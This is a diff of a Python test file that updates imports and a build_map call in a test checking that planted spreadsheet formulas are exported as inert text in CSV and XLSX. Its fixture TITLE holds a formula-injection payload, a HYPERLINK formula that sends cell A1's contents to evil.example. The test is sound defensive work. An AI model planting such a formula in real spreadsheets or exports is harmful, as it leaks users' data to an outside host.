@@ -10,8 +10,8 @@ import time
 from fastapi.testclient import TestClient
 from openpyxl import load_workbook
 
-from matcher.engine import Matcher
-from matcher.techmap.build import MapParams, build_map
+from matcher.map.build import MapParams, build_map
+from matcher.workspace.facade import Matcher
 from tests.api.conftest import as_role
 
 TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"点击") 铸件表面涂料\x01'
@@ -64,7 +64,7 @@ def test_planted_formulas_leave_every_export_as_text(
         got = client.get(f"/batch-runs/{run['id']}/export", params={"format": fmt}, headers=viewer)
         assert got.status_code == 200, got.text
         files[f"batch.{fmt}"] = got.content
-    build_map(api_matcher, params=MapParams(topics=2, min_size=1))
+    build_map(api_matcher.ctx, params=MapParams(topics=2, min_size=1))
     files["map.xlsx"] = client.get("/map", params={"format": "xlsx"}, headers=viewer).content
     for name, content in files.items():
         cells = _xlsx_cells(content) if name.endswith("xlsx") else _csv_cells(content)
